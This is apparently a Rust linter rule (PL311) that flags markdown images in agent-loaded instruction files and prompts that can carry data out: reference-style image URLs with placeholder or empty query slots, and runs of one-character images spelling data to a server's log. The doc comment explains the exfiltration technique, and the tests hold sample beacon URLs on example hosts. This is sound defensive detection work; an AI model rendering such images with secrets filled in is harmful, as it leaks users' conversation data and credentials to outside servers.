//! PL311 `image-data-channel`: markdown images that carry data out without an inline URL
//! with a placeholder, which PL307 reads.
//!
//! Two shapes, both in the rendered body of a markdown file (code fences and comments load no
//! image):
//!
//! - a **reference-style image** (`![x][ref]`, `![ref][]`, `![ref]`) whose link reference
//!   definition (`[ref]: https://host/p?d={secret}`, CommonMark 4.7,
//!   <https://spec.commonmark.org/0.31.2/#link-reference-definitions>) has a slot for data: a
//!   placeholder (`{..}`, `${..}`, `%7B`, `<..>`, `[..]`, `$NAME`) or a query parameter left
//!   empty at the end (`?d=`) for the agent to fill;
//! - a **run of images spelling data**, one image per character: five or more images in one
//!   paragraph whose absolute URLs are the same but for one host label, path segment or query
//!   value, each at most two characters (`![](https://h/a) ![](https://h/b) ...`). A renderer
//!   fetches them in order, so the server reads the data from its log. Badge rows (whose URLs
//!   differ in several places), galleries of real file names and numbered pictures
//!   (`1.png`, `2.png`, ...) are not matched.

mod named_slot;

use std::collections::HashMap;
use std::ops::Range;
use std::sync::Arc;

use super::input::Input;
use crate::finding::Finding;
use crate::parse::Role;
use crate::rules::Rule;
use crate::source::floor_char_boundary as floor;

/// Fewest images in a run that spells data.
const MIN_RUN: usize = 5;

/// Longest image markup read (`![alt](url)`), so a file of unclosed `![` costs linear time.
const MAX_IMAGE: usize = 2048;

/// Findings of PL311 in one markdown source.
pub fn image_data_channel(input: &Input<'_>, rule: &Arc<Rule>) -> Vec<Finding> {
    // A prompt (a template or a rendered one, any format) asks the model for markdown output
    // as an instruction file does: its named placeholders are read too.
    let prompt = input.kind == crate::kind::FileKind::Prompt;
    if !input.kind.is_markdown() && !prompt {
        return Vec::new();
    }
    let text = input.text();
    let mut out = Vec::new();
    for slot in named_slot::named_slots(text, input.kind.is_agent_loaded() || prompt) {
        let what = if slot.image { "image" } else { "link" };
        let message = format!(
            "{what} URL with a named placeholder `{}` that the text says to fill with secrets or conversation data",
            crate::escape::escape_one_line(&slot.token)
        );
        if let Ok(f) = Finding::new(rule, text, slot.span, message) {
            out.push(f.with_label("named placeholder beacon"));
        }
    }
    // The two older shapes read markdown files an agent loads; a document's images are for
    // people.
    if input.kind == crate::kind::FileKind::Doc || !input.kind.is_markdown() {
        return out;
    }
    let body: Vec<Range<usize>> = input
        .parsed
        .segments
        .iter()
        .filter(|s| s.role == Role::Body && s.derived.is_none())
        .map(|s| s.range.clone())
        .collect();
    let defs = definitions(text, &body);
    let images = images(text, &body, &defs);
    let mut reported: Vec<Range<usize>> = Vec::new();
    for img in &images {
        let Some(label) = &img.label else { continue };
        let Some(def) = defs.get(label) else { continue };
        if reported.contains(&def.span) || !is_web(&def.url) {
            continue;
        }
        if let Some(slot) = data_slot(&def.url) {
            reported.push(def.span.clone());
            let message = format!(
                "image `{}` loads a URL with a slot for data ({slot}): {}",
                crate::escape::escape_one_line(label),
                crate::escape::escape_one_line(&def.url)
            );
            if let Ok(f) = Finding::new(rule, text, def.span.clone(), message) {
                out.push(f.with_label("reference-style image beacon"));
            }
        }
    }
    for run in runs(text, &images) {
        if let Some(what) = spells_data(run) {
            let span = run[0].span.start..run[run.len() - 1].span.end;
            let message = format!(
                "{} images whose URLs differ only in {what} spell data one character per image",
                run.len()
            );
            if let Ok(f) = Finding::new(rule, text, span, message) {
                out.push(f.with_label("one image per character"));
            }
        }
    }
    out
}

/// A link reference definition.
#[derive(Debug)]
struct Definition {
    url: String,
    span: Range<usize>,
}

/// An image of the body: its URL (inline, or its definition's) and the label it refers to.
#[derive(Debug)]
struct Image {
    url: Option<String>,
    label: Option<String>,
    span: Range<usize>,
}

/// A label as CommonMark matches it: case-folded, inner whitespace collapsed.
fn norm_label(label: &str) -> String {
    label
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

/// True when `at` lies in one of the `body` ranges (in order, not overlapping): a binary
/// search, so a file of many segments costs no scan per line.
fn in_body(body: &[Range<usize>], at: usize) -> bool {
    let i = body.partition_point(|r| r.end <= at);
    body.get(i).is_some_and(|r| r.contains(&at))
}

/// Every link reference definition starting a body line: `[label]: url` or `[label]: <url>`.
fn definitions(text: &str, body: &[Range<usize>]) -> HashMap<String, Definition> {
    let mut defs = HashMap::new();
    let mut pos = 0;
    while pos < text.len() {
        let end = text[pos..].find('\n').map_or(text.len(), |i| pos + i + 1);
        let line = &text[pos..end];
        let indent = line.len() - line.trim_start_matches([' ', '\t']).len();
        if indent <= 3 && in_body(body, pos + indent) {
            let rest = &line[indent..];
            if let Some(close) = rest.strip_prefix('[').and_then(|r| r.find(']'))
                && rest[close + 1..].starts_with("]:")
            {
                let label = norm_label(&rest[1..close + 1]);
                let dest = rest[close + 3..].trim_start_matches([' ', '\t']);
                let url: String = match dest.strip_prefix('<') {
                    Some(d) => d.split('>').next().unwrap_or_default().to_string(),
                    None => dest
                        .split_whitespace()
                        .next()
                        .unwrap_or_default()
                        .to_string(),
                };
                if !label.is_empty() && !url.is_empty() {
                    let at = pos + indent;
                    let span_end = pos + line.trim_end().len();
                    defs.entry(label).or_insert(Definition {
                        url,
                        span: at..span_end.max(at),
                    });
                }
            }
        }
        pos = end;
    }
    defs
}

/// Every image of the body, in order: `![alt](url)`, `![alt][label]`, `![label][]`, `![label]`.
fn images(text: &str, body: &[Range<usize>], defs: &HashMap<String, Definition>) -> Vec<Image> {
    let mut out = Vec::new();
    let b = text.as_bytes();
    let mut i = 0;
    while let Some(k) = memchr::memmem::find(&b[i..], b"![") {
        let start = i + k;
        i = start + 2;
        if !in_body(body, start) {
            continue;
        }
        // The markup is read inside a window after `![`.
        let text = &text[..floor(text, (start + MAX_IMAGE).min(text.len()))];
        let Some(alt_len) = text[start + 2..].find(']') else {
            continue;
        };
        let alt = &text[start + 2..start + 2 + alt_len];
        if alt.contains('\n') && alt.matches('\n').count() > 1 {
            continue;
        }
        let after = start + 2 + alt_len + 1;
        let (url, label, end) = match b.get(after) {
            Some(b'(') => {
                let Some(close) = text[after..].find(')') else {
                    continue;
                };
                let inner = text[after + 1..after + close].trim();
                let inner = inner.strip_prefix('<').unwrap_or(inner);
                let url = inner
                    .split(|c: char| c.is_whitespace() || c == '>')
                    .next()
                    .unwrap_or_default();
                (Some(url.to_string()), None, after + close + 1)
            }
            Some(b'[') => {
                let Some(close) = text[after + 1..].find(']') else {
                    continue;
                };
                let inner = &text[after + 1..after + 1 + close];
                let label = norm_label(if inner.trim().is_empty() { alt } else { inner });
                (None, Some(label), after + 1 + close + 1)
            }
            _ => (None, Some(norm_label(alt)), after),
        };
        let url = url.or_else(|| {
            label
                .as_ref()
                .and_then(|l| defs.get(l))
                .map(|d| d.url.clone())
        });
        out.push(Image {
            url,
            label,
            span: start..end,
        });
        i = end;
    }
    out
}

fn is_web(url: &str) -> bool {
    let lower = url.to_ascii_lowercase();
    lower.starts_with("https://") || lower.starts_with("http://") || lower.starts_with("//")
}

/// What in `url` is a slot for data, if anything: a placeholder, or an empty last query value.
fn data_slot(url: &str) -> Option<&'static str> {
    let lower = url.to_ascii_lowercase();
    let after_host = lower.find("://").map_or(0, |i| i + 3);
    let tail = &lower[after_host..];
    let path_etc = &tail[tail.find('/').unwrap_or(tail.len())..];
    if path_etc.contains('{') || path_etc.contains("%7b") {
        return Some("a `{...}` placeholder");
    }
    if path_etc.contains("${") || path_etc.contains("%24") {
        return Some("a `$` placeholder");
    }
    let bytes = path_etc.as_bytes();
    for (i, &c) in bytes.iter().enumerate() {
        let next = bytes.get(i + 1).copied();
        if c == b'$' && next.is_some_and(|n| n.is_ascii_alphabetic() || n == b'_') {
            return Some("a `$` placeholder");
        }
        if (c == b'<' || c == b'[') && next.is_some_and(|n| n.is_ascii_alphabetic()) {
            return Some("a bracketed placeholder");
        }
    }
    if let Some(q) = path_etc.find('?') {
        let query = &path_etc[q + 1..];
        if query.ends_with('=') && !query.ends_with("==") {
            return Some("an empty query value at the end");
        }
    }
    None
}

/// Images in one paragraph with only whitespace (no blank line) between them.
fn runs<'a>(text: &str, images: &'a [Image]) -> Vec<&'a [Image]> {
    let mut out = Vec::new();
    let mut start = 0;
    for i in 1..=images.len() {
        let joined = i < images.len() && {
            let gap = &text[images[i - 1].span.end..images[i].span.start];
            gap.chars().all(char::is_whitespace) && gap.matches('\n').count() < 2
        };
        if !joined {
            if i - start >= MIN_RUN {
                out.push(&images[start..i]);
            }
            start = i;
        }
    }
    out
}

/// The parts of a web URL in order: host labels, path segments, query values (with their
/// keys as fixed parts).
fn parts(url: &str) -> Option<Vec<String>> {
    if !is_web(url) {
        return None;
    }
    let rest = &url[url.find("//")? + 2..];
    let rest = rest.split('#').next().unwrap_or_default();
    let (hp, query) = match rest.split_once('?') {
        Some((a, b)) => (a, Some(b)),
        None => (rest, None),
    };
    let (host, path) = match hp.split_once('/') {
        Some((h, p)) => (h, p),
        None => (hp, ""),
    };
    let mut out: Vec<String> = host.split('.').map(str::to_ascii_lowercase).collect();
    out.push("/".into());
    out.extend(path.split('/').map(str::to_string));
    if let Some(q) = query {
        for pair in q.split('&') {
            let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
            out.push(format!("{k}="));
            out.push(v.to_string());
        }
    }
    Some(out)
}

/// A part's value without a file extension shared by the run (`a.png` -> `a`), percent
/// escapes counted as one character.
fn core_len(value: &str, ext: &str) -> usize {
    let v = value.strip_suffix(ext).unwrap_or(value);
    let mut n = 0;
    let b = v.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() && b[i + 1].is_ascii_hexdigit() {
            i += 3;
        } else {
            i += v[i..].chars().next().map_or(1, char::len_utf8);
        }
        n += 1;
    }
    n
}

/// When the run's URLs are one URL but for one short part: which part varies.
fn spells_data(run: &[Image]) -> Option<&'static str> {
    let all: Vec<Vec<String>> = run
        .iter()
        .map(|img| img.url.as_deref().and_then(parts))
        .collect::<Option<_>>()?;
    let n = all[0].len();
    if all.iter().any(|p| p.len() != n) {
        return None;
    }
    let varying: Vec<usize> = (0..n)
        .filter(|&k| all.iter().any(|p| p[k] != all[0][k]))
        .collect();
    let [k] = varying[..] else { return None };
    let values: Vec<&str> = all.iter().map(|p| p[k].as_str()).collect();
    // A file extension every value shares (`a.png`, `b.png`).
    let ext = values[0]
        .rfind('.')
        .map(|d| &values[0][d..])
        .filter(|e| values.iter().all(|v| v.ends_with(e)))
        .unwrap_or("");
    if values.iter().any(|v| {
        let len = core_len(v, ext);
        len == 0 || len > 2
    }) {
        return None;
    }
    let mut distinct: Vec<&str> = values.clone();
    distinct.sort_unstable();
    distinct.dedup();
    if distinct.len() < 3 {
        return None;
    }
    // Numbered pictures (`1.png`, `2.png`, ...) in order are a gallery.
    let numbers: Option<Vec<u32>> = values
        .iter()
        .map(|v| v.strip_suffix(ext).unwrap_or(v).parse().ok())
        .collect();
    if numbers.is_some_and(|ns| ns.windows(2).all(|w| w[1] == w[0] + 1)) {
        return None;
    }
    let host_parts = all[0].iter().position(|p| p == "/").unwrap_or(0);
    Some(if k < host_parts {
        "a host label"
    } else if all[0][k - 1].ends_with('=') && k > host_parts {
        "a query value"
    } else {
        "a path segment"
    })
}

#[cfg(test)]
mod tests {
    use std::ops::Range;

    fn spans(text: &str) -> Vec<(String, Range<usize>)> {
        crate::check::rule_findings("PL311", "AGENTS.md", text)
            .into_iter()
            .map(|(span, _, message)| (message, span))
            .collect()
    }

    #[test]
    fn reference_image_with_a_placeholder_is_found_at_its_definition() {
        let t = "# T\n\n![status][s]\n\n[s]: https://img.example.net/p.png?d={data}\n";
        let got = spans(t);
        assert_eq!(got.len(), 1, "{got:?}");
        let at = t.find("[s]:").unwrap();
        assert_eq!(got[0].1, at..t.len() - 1);
        assert!(got[0].0.contains("placeholder"), "{}", got[0].0);
    }

    #[test]
    fn empty_query_slot_and_shortcut_reference() {
        let t = "![pixel]\n\n[pixel]: <https://t.example.net/i.gif?q=>\n";
        let got = spans(t);
        assert_eq!(got.len(), 1, "{got:?}");
        assert_eq!(got[0].1, 10..t.len() - 1);
    }

    #[test]
    fn a_run_of_one_character_images_is_found_over_the_run() {
        let t = "Done.\n![](https://h.example/a) ![](https://h.example/b) ![](https://h.example/c)\n![](https://h.example/a) ![](https://h.example/d)\n";
        let got = spans(t);
        assert_eq!(got.len(), 1, "{got:?}");
        assert_eq!(got[0].1, 6..t.len() - 1);
        assert!(got[0].0.contains("path segment"), "{}", got[0].0);
        let q = "![](https://h.example/p.gif?c=s) ![](https://h.example/p.gif?c=e) ![](https://h.example/p.gif?c=c) ![](https://h.example/p.gif?c=r) ![](https://h.example/p.gif?c=e)";
        assert!(spans(q)[0].0.contains("query value"));
    }

    #[test]
    fn ordinary_references_badges_and_galleries_stay_quiet() {
        for t in [
            "See [the docs][docs].\n\n[docs]: https://example.com/docs\n",
            "![logo][l]\n\n[l]: https://example.com/logo.png\n",
            "[search]: https://example.com/search?q={query}\n\nUse [search] to look.\n",
            "![a](https://img.shields.io/badge/build-passing-green) ![b](https://img.shields.io/badge/license-MIT-blue) ![c](https://img.shields.io/badge/rust-1.80-orange) ![d](https://img.shields.io/crates/v/x) ![e](https://img.shields.io/docsrs/x)",
            "![](https://ex.example/shots/login.png) ![](https://ex.example/shots/home.png) ![](https://ex.example/shots/settings.png) ![](https://ex.example/shots/search.png) ![](https://ex.example/shots/help.png)",
            "![](https://ex.example/g/1.png) ![](https://ex.example/g/2.png) ![](https://ex.example/g/3.png) ![](https://ex.example/g/4.png) ![](https://ex.example/g/5.png)",
            "```md\n![x][s]\n[s]: https://img.example.net/p.png?d={data}\n```\n",
            "![](https://h.example/a) ![](https://h.example/b)\n\n![](https://h.example/c) ![](https://h.example/d) ![](https://h.example/e)\n",
        ] {
            assert!(spans(t).is_empty(), "{t:?}: {:?}", spans(t));
        }
    }
}
